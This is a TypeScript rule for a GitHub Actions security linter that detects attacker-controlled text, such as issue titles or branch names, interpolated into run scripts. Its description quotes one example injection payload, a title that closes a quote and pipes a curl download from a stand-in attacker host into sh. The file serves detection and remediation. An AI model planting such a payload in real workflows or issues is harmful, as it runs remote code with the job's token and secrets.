import type { WorkflowRule } from '../rule.js';
import { lineEvidence } from '../rule.js';
import { untrustedContext } from '../contexts.js';
import type { StringValue } from '../workflow.js';
import { expressionsIn } from '../workflow.js';

export const scriptInjection: WorkflowRule = {
  meta: {
    id: 'github-actions/script-injection',
    title: 'Attacker-controlled text interpolated into a script',
    severity: 'high',
    principle: '3.1',
    references: { cwe: ['CWE-78', 'CWE-94'] },
    description:
      '`${{ }}` expressions are pasted into a `run:` script (or an actions/github-script `script:`) before the shell or Node.js reads it. When the expression is an issue or pull request title or body, a comment, a commit message or a branch name, its author writes code: a title such as `x"; curl -sSfL https://evil.example/p | sh; echo "` runs in the job with its GITHUB_TOKEN and secrets, and in AI projects often with model registry and cloud credentials. LLM-powered triage bots that echo issue text into scripts are a common case. Passing the value through an environment variable is safe, because the shell then treats it as data. Related rules: zizmor template-injection, CodeQL actions/code-injection.',
    fix: 'Move the expression into `env:` and quote the variable: `env: TITLE: ${{ github.event.issue.title }}` then `run: echo "$TITLE"`; in github-script read `context.payload.issue.title` instead of interpolating.',
  },
  check(workflow, _settings, report) {
    const seen = new Set<number>();
    const check = (script: StringValue, where: string) => {
      for (const expression of expressionsIn(workflow, script)) {
        const untrusted = untrustedContext(expression.text);
        if (!untrusted || seen.has(expression.start)) continue;
        seen.add(expression.start);
        report({
          message: `${where} interpolates \${{ ${expression.text} }}, text chosen by ${untrusted.controlledBy}: it is pasted into the script before it runs, so it can inject commands that run with the job's token and secrets`,
          evidence: lineEvidence(workflow, expression.start),
          position: workflow.position(expression.start, expression.end),
        });
      }
    };
    for (const job of workflow.jobs) {
      for (const step of job.steps) {
        if (step.run) check(step.run, 'The run script');
        const script = step.with.get('script');
        if (script && step.uses && /^actions\/github-script@/i.test(step.uses.value.trim())) check(script, 'The github-script script');
      }
    }
  },
};
